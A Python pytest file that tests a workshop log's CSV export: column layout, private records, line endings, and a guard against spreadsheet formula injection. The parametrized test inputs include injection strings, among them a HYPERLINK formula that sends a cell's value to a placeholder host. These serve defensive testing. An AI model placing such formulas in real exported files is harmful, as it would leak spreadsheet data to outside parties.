"""A log's setups as CSV and JSON: every field, no formula; a file is written whole or not."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shoplog.find.export import (
    COLUMNS,
    guarded,
    records_csv,
    unguarded,
)
from shoplog.find.record import FIGURES, RECORD, Figures, Record

ONE = Record(
    page="boat-winch/bush.md",
    anchor="setup",
    line=12,
    run=1,
    date="2026-03-14",
    operation="turning, finish",
    material="free-cutting brass",
    diameter_mm=16.4,
    fault=("chatter", "burr"),
    remarks='"stoned"\tedge, then fine',
    ran=Figures(spindle_speed_rpm=1180.0, feed_per_rev_mm=0.06, passes=2),
)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_columns_are_the_fields_of_a_record_then_its_plan_then_its_run() -> None:
    text = records_csv([ONE])
    head = text.partition("\r\n")[0].split(",")
    assert tuple(head) == COLUMNS
    assert head[: len(RECORD)] == [known.name for known in RECORD]
    assert head[len(RECORD) :] == [
        f"{run}_{known.name}" for run in ("planned", "ran") for known in FIGURES
    ]


def test_a_record_is_a_row_and_what_is_not_known_is_empty() -> None:
    (row,) = rows_of(records_csv([ONE]))
    filled = {name: text for name, text in row.items() if text}
    assert filled == {
        "page": "boat-winch/bush.md",
        "anchor": "setup",
        "line": "12",
        "run": "1",
        "date": "2026-03-14",
        "operation": "turning, finish",
        "material": "free-cutting brass",
        "diameter_mm": "16.4",
        "fault": "chatter, burr",
        "remarks": '"stoned"\tedge, then fine',
        "private": "no",
        "ran_spindle_speed_rpm": "1180",
        "ran_feed_per_rev_mm": "0.06",
        "ran_by_hand": "no",
        "ran_passes": "2",
    }


def test_rows_end_as_rfc_4180_has_it() -> None:
    text = records_csv([ONE, ONE])
    assert text.count("\r\n") == 3
    assert text.replace("\r\n", "").count("\n") == 0


def test_a_number_is_never_guarded_and_one_that_is_none_is_empty() -> None:
    odd = replace(ONE, diameter_mm=-0.5, length_mm=float("inf"), stick_out_mm=1e-7)
    (row,) = rows_of(records_csv([odd]))
    assert (row["diameter_mm"], row["length_mm"], row["stick_out_mm"]) == ("-0.5", "", "1e-07")


def test_private_setups_are_left_out_unless_asked_for() -> None:
    both = [ONE, replace(ONE, anchor="setup-2", private=True)]
    assert [row["anchor"] for row in rows_of(records_csv(both))] == ["setup"]
    asked = rows_of(records_csv(both, private=True))
    assert [(row["anchor"], row["private"]) for row in asked] == [
        ("setup", "no"),
        ("setup-2", "yes"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-0.02 off",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'=1",
        '=HYPERLINK("https://host.example/?"&A1,"see")',
        "＝1+1",
        "fine;=1+1",
        "fine\t=1+1",
    ],
)
def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_guarded(text: str) -> None:
    found = guarded(text)
    assert found != text
    for separator in ",;\t":
        for cell in next(csv.reader([found.replace("\r", " ")], delimiter=separator)):
            assert cell[:1] not in ("=", "+", "-", "@", "＝", "\t"), (text, separator)
    assert unguarded(found) == text


@pytest.mark.parametrize("text", ["", "good", "'tis", "a = 1", "1-1/2 in", "x; -0.02 off"])
def test_another_text_stays_what_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="=+-@'; \t\r\nab", max_size=12) | st.text())
def test_every_text_comes_back_from_its_guard(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40))
def test_every_text_comes_back_from_its_cell(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(records_csv([replace(ONE, remarks=text)]), newline=""))
    assert unguarded(row["remarks"]) == text
